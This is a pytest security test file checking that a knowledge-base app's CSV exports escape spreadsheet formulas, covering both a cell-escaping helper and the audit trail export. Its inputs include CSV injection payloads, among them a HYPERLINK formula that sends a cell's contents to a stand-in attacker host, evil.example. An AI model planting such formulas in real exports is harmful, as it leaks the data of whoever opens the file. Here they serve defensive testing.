"""CSV exports never carry a spreadsheet formula (CSV injection, CWE-1236; kb.identity.exports)."""

from __future__ import annotations

import csv
import io

import pytest
from fastapi.testclient import TestClient

from kb.identity.exports import SafeCsvWriter, safe_cell
from tests.helpers import anonymous, kb_of, login, sysadmin

pytestmark = pytest.mark.security

GOOD = "Lan-Zhang-42"


@pytest.mark.parametrize("text", ['=HYPERLINK("http://evil.example/?x="&A1)', "+1+1", "-2+3", "@SUM(A1)", "\t=1"])
def test_formula_cells_become_text(text: str) -> None:
    assert safe_cell(text) == "'" + text
    out = io.StringIO()
    SafeCsvWriter(out).writerow(["frequent_problem", 1, "example", text])
    (row,) = list(csv.reader(io.StringIO(out.getvalue())))
    assert row[3] == "'" + text and row[1] == "1"


def test_other_cells_are_unchanged() -> None:
    for value in ("打印机脱机", "a=b", "", None, -3, 2.5):
        assert safe_cell(value) == value


def test_the_audit_export_holds_no_formula(client: TestClient) -> None:
    """A resolver-group name is user text that reaches the audit trail's ``reason``; the CSV export keeps it text."""
    kb = kb_of(client)
    kb.accounts.create("shen.ji", ["auditadmin"], "tests", password=GOOD, must_change=False)
    kb.accounts.enrol_totp("shen.ji")
    admin = sysadmin(client)
    made = admin.post("/users", json={"username": "li.si", "roles": ["agent"]})
    assert made.status_code == 201, made.text
    changed = admin.put("/users/li.si/groups", json={"groups": ["=1+1 -> ../x"]})
    assert changed.status_code == 200, changed.text
    auditor = anonymous(client)
    login(auditor, "shen.ji", GOOD)
    answer = auditor.get("/audit", params={"format": "csv"})
    assert answer.status_code == 200, answer.text
    cells = [c for row in csv.reader(io.StringIO(answer.text)) for c in row]
    assert any("=1+1" in c for c in cells)
    assert not any(c.startswith(("=", "+", "-", "@")) for c in cells)
